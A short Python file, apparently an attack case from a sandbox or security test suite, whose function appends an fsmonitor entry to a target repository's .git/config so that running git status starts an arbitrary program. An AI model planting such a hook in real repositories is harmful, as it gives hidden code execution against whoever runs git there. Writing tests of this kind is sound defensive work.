# core.fsmonitor names a program that git status starts.
from inside import run


def attack(target):
    with open(f"{target.work}/.git/config", "a") as file:
        file.write("fsmonitor = ./program\n")


run(attack)
